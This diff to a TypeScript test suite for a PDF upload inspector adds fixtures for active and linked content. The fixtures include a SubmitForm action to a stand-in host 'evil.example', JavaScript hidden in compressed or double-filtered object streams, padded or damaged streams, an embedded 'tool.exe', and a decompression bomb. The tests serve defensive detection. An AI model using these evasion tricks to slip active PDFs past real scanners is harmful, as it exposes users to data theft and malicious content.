@@ -11,7 +11,7 @@ function pdfOf(object: string | Buffer) {
 
 /** The same text in a compressed object stream, where a plain search does not see it. */
 function hidden(object: string) {
-  const packed = deflateSync(Buffer.from(object))
+  const packed = deflateSync(Buffer.from(`1 0 ${object}`))
   const head = Buffer.from(`<</Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${packed.length}>>\nstream\n`)
   return pdfOf(Buffer.concat([head, packed, Buffer.from('\nendstream')]))
 }
@@ -23,18 +23,43 @@ const active = [
   '<</Names <</EmbeddedFiles 2 0 R>>>>',
   '<</Type /EmbeddedFile>>',
   '<</AcroForm <</XFA 3 0 R>>>>',
+  '<</S /SubmitForm /F (https://evil.example)>>',
+  '<</S /GoToR /F (other.pdf)>>',
+  '<</S /GoToE /T 3 0 R>>',
 ]
 
 test.each(active)('a PDF with %s is kept for saving, and never opened in the page (UP07)', async (object) => {
-  expect(await inspectPdf(pdfOf(object))).toEqual({ active: true })
-  expect(await inspectPdf(hidden(object))).toEqual({ active: true })
+  expect(await inspectPdf(pdfOf(object))).toEqual({ active: true, links: false })
+  expect(await inspectPdf(hidden(object))).toEqual({ active: true, links: false })
+})
+
+test('one with a link is shown, and whoever reads it is told', async () => {
+  for (const link of ['<</S /URI /URI (https://example.org)>>', '<</S /#55RI>>'])
+    for (const pdf of [pdfOf(link), hidden(link)]) expect(await inspectPdf(pdf)).toEqual({ active: false, links: true })
+})
+
+const packed = deflateSync(Buffer.from('<</S /JavaScript>>'))
+
+test.each<[string, Buffer]>([
+  ['packed in another way', Buffer.from('<</Type /ObjStm /Filter /LZWDecode>>\nstream\n\x80\x0b\x60\nendstream')],
+  [
+    'packed twice',
+    Buffer.concat([Buffer.from('<</Type /ObjStm /Filter [/ASCIIHexDecode /FlateDecode]>>\nstream\n'), Buffer.from(packed.toString('hex'))]),
+  ],
+  [
+    'damaged',
+    Buffer.concat([Buffer.from('<</Type /ObjStm /Filter /FlateDecode>>\nstream\n'), packed.subarray(0, 4), Buffer.from('garbage')]),
+  ],
+  ['far from its beginning', Buffer.from(`<</Type /ObjStm /Note (${'x'.repeat(3000)})>>\nstream\n`)],
+])('a PDF with a part that is %s counts as active: nobody has looked into it', async (_what, object) => {
+  expect(await inspectPdf(pdfOf(object))).toMatchObject({ active: true })
 })
 
 test('one with an attachment, as a program writes it, counts as active; one without does not (UP07)', async () => {
   const document = await PDFDocument.load(await makePdf('cv'))
   await document.attach(Buffer.from('MZ'), 'tool.exe')
-  expect(await inspectPdf(Buffer.from(await document.save()))).toEqual({ active: true })
-  expect(await inspectPdf(await makePdf('cv'))).toEqual({ active: false })
+  expect(await inspectPdf(Buffer.from(await document.save()))).toEqual({ active: true, links: false })
+  expect(await inspectPdf(await makePdf('cv'))).toEqual({ active: false, links: false })
 })
 
 test.each([
@@ -64,6 +89,6 @@ test.each([
 })
 
 function bombPart() {
-  const packed = deflateSync(Buffer.alloc(600_000))
+  const packed = deflateSync(Buffer.alloc(600_000, '1 0 '))
   return Buffer.concat([Buffer.from(`<</Type /ObjStm /Filter /FlateDecode>>\nstream\n`), packed, Buffer.from('\nendstream\n')])
 }
